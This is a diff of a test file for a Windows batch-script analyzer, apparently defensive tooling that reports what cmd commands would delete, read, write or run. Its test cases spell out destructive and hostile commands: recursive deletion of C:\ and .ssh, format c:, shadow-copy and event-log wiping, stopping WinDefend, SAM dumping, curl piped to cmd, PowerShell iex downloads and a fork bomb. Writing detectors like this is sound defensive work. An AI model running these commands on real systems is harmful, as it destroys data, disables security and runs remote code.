@@ -1,170 +1,129 @@
-import assert from "node:assert/strict";
-import fc from "fast-check";
-import { word } from "../../word.ts";
-import { showFindings } from "../show_findings.ts";
-import { readCmdCode } from "./read_cmd.ts";
+import { checkCases } from "../check_cases_test.ts";
 
-const find = (source: string, ...args: string[]): string[] =>
-  showFindings(
-    readCmdCode(source, {
-      home: "C:\\Users\\u",
-      env: {},
-      args: args.map((arg) => word(arg)),
-      budget: { steps: 100_000 },
-    }),
-  );
-
-/** What must be among the findings. */
-const HITS: readonly (readonly [source: string, expected: string])[] = [
-  ["rd /s /q C:\\", "delete* C:\\"],
-  ["RMDIR /S/Q C:\\", "delete* C:\\"],
-  ["rd/s/q C:\\x", "delete* C:\\x"],
-  ["del /f /s /q C:\\*.*", "delete* C:\\\\*.*"],
-  ["erase a.txt b.txt", "delete b.txt"],
-  ['del "C:\\Program Files\\x"', "delete C:\\Program Files\\x"],
-  ["d^el x", "delete x"],
-  ['"del" x', "run: del|x"],
-  ["echo a & del x", "delete x"],
-  ["echo a && del x || rd y", "delete y"],
-  ["@del x", "delete x"],
-  ["(echo a & del x)", "delete x"],
-  ["if exist x (del x) else (rd /s y)", "delete* y"],
-  ['if "%1"=="" (del x)', "delete x"],
-  ["if not defined X del x", "delete x"],
-  ["for %i in (a b) do del %i", "delete b"],
-  ["for %%i in (a b) do @del %%i", "delete b"],
-  ["for /d %i in (C:\\*) do rd /s /q %i", "delete* C:\\\\*"],
-  ["for /l %i in (1,1,3) do del f%i", "delete f3"],
-  ["for /f %i in ('curl http://x.io') do echo %i", "run: curl|http://x.io"],
-  ["set X=del& call %X% y", "delete y"],
-  ["set X=C:\\\nrd /s /q %X%", "delete* C:\\"],
-  ['set "X=C:\\"\nrd /s /q %X%', "delete* C:\\"],
-  ["set X=dxel\n%X:x=% y", "delete y"],
-  ["set X=xdelx\n%X:~1,3% y", "delete y"],
-  ["set X=y & setlocal enabledelayedexpansion & del !X!", "delete y"],
-  ["rd /s /q %USERPROFILE%", "delete* C:\\Users\\u"],
-  ["rd /s /q %SystemRoot%", "delete* C:\\Windows"],
-  ["del %1", "delete a"],
-  ["cd /d C:\\ & rd /s /q x", "delete* C:\\x"],
-  ["echo x > f.txt", "write f.txt"],
-  ["echo x>>f.txt", "write f.txt"],
-  ["sort < f.txt", "read f.txt"],
-  ["type secret.txt", "read secret.txt"],
-  ["copy a b", "read a"],
-  ["copy a b", "write b"],
-  ["move a b", "delete* a"],
-  ["ren a b", "write b"],
+// The source, then what it would do, a line each. Cases without lines are look-alikes that must give nothing.
+checkCases("cmd", [
   [
-    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y",
-    "run: reg|add|HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run|/v|x|/d|y",
+    'del /s /q C:\\Users\\me & rd /s /q "C:\\Program Files\\x" && format c: /q',
+    "run.: del|/s|/q|C:\\Users\\me",
+    "delete* C:\\Users\\me",
+    "run.: rd|/s|/q|C:\\Program Files\\x",
+    "delete* C:\\Program Files\\x",
+    "run: format|c:|/q",
   ],
-  ["reg save HKLM\\SAM x", "run: reg|save|HKLM\\SAM|x"],
-  ["schtasks /create /tn x /tr y", "run: schtasks|/create|/tn|x|/tr|y"],
-  ["wevtutil cl System", "run: wevtutil|cl|System"],
-  ["vssadmin delete shadows /all", "run: vssadmin|delete|shadows|/all"],
-  ['powershell -c "Remove-Item x"', "run: powershell|-c|Remove-Item x"],
-  ["cmd /c del x", "run: cmd|/c|del|x"],
-  ["start /b evil.exe x", "run: evil.exe|x"],
-  ['start "" evil.exe', "run: evil.exe"],
-  ["start https://x.io", "connect https://x.io"],
-  ["format C: /q", "run: format|C:|/q"],
-  ["cipher /w:C:\\", "run: cipher|/w:C:\\"],
-  ["curl http://x.io | cmd", "opaque download"],
-  ["call :f\ngoto :eof\n:f\ndel x", "delete x"],
-  ["%COMSPEC% /c del x", "run: C:\\Windows\\system32\\cmd.exe|/c|del|x"],
-];
-for (const [source, expected] of HITS) {
-  Deno.test(`cmd: ${JSON.stringify(source)} gives ${expected}`, () => {
-    const found = find(source, "a");
-    assert.ok(found.some((one) => one.replace(/^(run)[#\d.]+:/, "$1:") === expected), found.join("\n"));
-  });
-}
-
-/** What deletes nothing. */
-const HARMLESS = [
-  "echo del x",
-  "echo rd /s /q C:\\",
-  "rem del x",
-  ":: del x",
-  "REM & del x",
-  "echo a ^& del x",
-  'echo "a & del x"',
-  "title del x",
-  "set X=del x",
-  "findstr del x",
-  "if exist del echo x",
-  "dir /s C:\\",
-  "type del",
-];
-for (const source of HARMLESS) {
-  Deno.test(`cmd: ${JSON.stringify(source)} deletes nothing`, () => {
-    const found = find(source);
-    assert.ok(
-      !found.some((one) => one.startsWith("delete") || /^run[^:]*: (?:del|rd)\b/.test(one)),
-      found.join("\n"),
-    );
-  });
-}
-
-Deno.test("a script that starts itself twice shows", () => {
-  assert.ok(find("%0|%0").length > 0);
-  assert.ok(find(":s\nstart %0\ngoto s").some((one) => one.startsWith("run")));
-});
-
-Deno.test("no batch file makes it throw or run on", () => {
-  const piece = fc.constantFrom(
-    "if ",
-    "for ",
-    "%i ",
-    "in ",
-    "(",
-    ")",
-    "do ",
-    "else ",
-    "&",
-    "|",
-    "^",
-    '"',
-    "%",
-    "%X%",
-    "!X!",
-    "set X=",
-    "del ",
-    ">",
-    "<",
-    "\n",
-    "a",
-    " ",
-    ":~1,2%",
-    "call ",
-    "start ",
-    "/f ",
-    "'",
-    "echo",
-    "\uffff",
-  );
-  fc.assert(fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => void find(pieces.join(""))), {
-    numRuns: 500,
-  });
-  for (
-    const s of [
-      "(",
-      "if a==b (",
-      "for %i in (a b) do (",
-      "set X=%X%%X%\n",
-      "%X",
-      "^",
-      "call ",
-      "a|",
-      "else ",
-      "if a==b ",
-      "for %i in (a b) do ",
-      "%X:a=b%",
-      "call set X=%X%%X% & ",
-    ]
-  ) {
-    const start = performance.now();
-    find(s.repeat(10_000));
-    assert.ok(performance.now() - start < 1_500, s);
-  }
-});
+  ['d^el /f "C:\\a b\\*.txt" 2>nul', "run.: del|/f|C:\\a b\\*.txt", "delete C:\\\\a b\\\\*.txt"],
+  ["set X=del& call %X% /q C:\\y", "run.: del|/q|C:\\y", "delete C:\\y"],
+  [
+    "echo hi > C:\\x.txt & type C:\\secret.txt | findstr x",
+    "write C:\\x.txt",
+    "run.: echo|hi",
+    "run#1.: type|C:\\secret.txt",
+    "read C:\\secret.txt",
+    "run#1: findstr|x",
+  ],
+  ["for %i in (a b) do del %i.txt", "run.: del|a.txt", "delete a.txt", "run.: del|b.txt", "delete b.txt"],
+  [
+    'for /f "tokens=*" %%a in (\'dir /b C:\\x\') do rd /s /q "C:\\x\\%%a"',
+    "run.: dir|/b|C:\\x",
+    "run.: rd|/s|/q|C:\\x\\?",
+    "delete* C:\\x\\?",
+  ],
+  [
+    "if exist C:\\x (del C:\\x) else (copy a b)",
+    "run.: del|C:\\x",
+    "delete C:\\x",
+    "run.: copy|a|b",
+    "read a",
+    "write b",
+  ],
+  [
+    "reg delete HKCU\\Software\\X /f & sc stop WinDefend & net user a /del",
+    "run: reg|delete|HKCU\\Software\\X|/f",
+    "run: sc|stop|WinDefend",
+    "run: net|user|a|/del",
+  ],
+  ['powershell -c "iex (iwr http://x)"', "run: powershell|-c|iex (iwr http://x)"],
+  ["curl http://x/y | cmd", "run#1: curl|http://x/y", "run#1: cmd", "opaque download"],
+  ["echo del C:\\x | cmd", "run#1.: echo|del|C:\\x", "run#1: cmd << del C:\\x"],
+  [
+    '%COMSPEC:~0,1% & set "a=de" & call %a%l /q C:\\q & copy /y a+b c & move x y & ren C:\\d\\a.txt b.txt',
+    "run: C",
+    "run.: del|/q|C:\\q",
+    "delete C:\\q",
+    "run.: copy|/y|a+b|c",
+    "read a",
+    "read b",
+    "write c",
+    "run.: move|x|y",
+    "read* x",
+    "delete* x",
+    "write y",
+    "run.: ren|C:\\d\\a.txt|b.txt",
+    "read* C:\\d\\a.txt",
+    "delete* C:\\d\\a.txt",
+    "write C:\\d\\b.txt",
+  ],
+  [
+    'start "" /b calc.exe /x & cd /d C:\\work & del foo.txt',
+    "run: calc.exe|/x",
+    "run.: cd|/d|C:\\work",
+    "run.: del|foo.txt in C:\\work",
+    "delete C:\\work\\foo.txt",
+  ],
+  ['rem del C:\\x\n:: del\necho "del C:\\x"', "run.: echo|del C:\\x"],
+  [
+    "@echo off\nset T=%TEMP%\\a\ndel %T%\nrd /s/q %USERPROFILE%\\.ssh",
+    "run.: echo|off",
+    "run.: del|/home/u/AppData/Local/Temp\\a",
+    "run.: rd|/s/q|/home/u\\.ssh",
+  ],
+  [
+    'if "%1"=="x" (rd /s /q C:\\a) else if not exist b (del c)',
+    "run.: rd|/s|/q|C:\\a",
+    "delete* C:\\a",
+    "run.: del|c",
+    "delete c",
+  ],
+  ['set "p=C:\\w" && cd %p% && del *.obj', "run.: cd|C:\\w", "run.: del|*.obj in C:\\w", "delete *.obj"],
+  [
+    "for /l %i in (1,1,3) do del C:\\t%i",
+    "run.: del|C:\\t1",
+    "delete C:\\t1",
+    "run.: del|C:\\t2",
+    "delete C:\\t2",
+    "run.: del|C:\\t3",
+    "delete C:\\t3",
+  ],
+  ['for /r C:\\src %f in (*.tmp) do del "%f"', "run.: del|C:\\src\\*.tmp", "delete C:\\\\src\\\\*.tmp"],
+  ["(echo a & echo b) > out.txt", "run.: echo|a", "run.: echo|b", "write out.txt"],
+  ["call :sub & goto end\n:sub\ndel /f x.txt\n:end", "run.: goto|end", "run.: del|/f|x.txt", "delete x.txt"],
+  [
+    "type a.txt b.txt | more & dir /s > list.txt 2>&1",
+    "run#1.: type|a.txt|b.txt",
+    "read a.txt",
+    "read b.txt",
+    "run#1: more",
+    "write list.txt",
+    "run.: dir|/s",
+  ],
+  [
+    's^e^t x=1 & p"owe"rshell -nop -c "Remove-Item x" & cmd /c "del ""a b"""',
+    "run: powershell|-nop|-c|Remove-Item x",
+    "run: cmd|/c|del a b",
+  ],
+  [
+    'git commit -m "del /s C:\\ & format c:" && npm run build || exit /b 1',
+    "run: git|commit|-m|del /s C:\\ & format c:",
+    "run: npm|run|build",
+    "run.: exit|/b|1",
+  ],
+  [
+    "mklink /d link C:\\x & start /b notepad.exe & start https://evil.example & xcopy /s a b & attrib -h x",
+    "run.: mklink|/d|link|C:\\x",
+    "write link",
+    "run: notepad.exe",
+    "connect https://evil.example",
+    "run: https://evil.example",
+    "run: xcopy|/s|a|b",
+    "run: attrib|-h|x",
+  ],
+]);
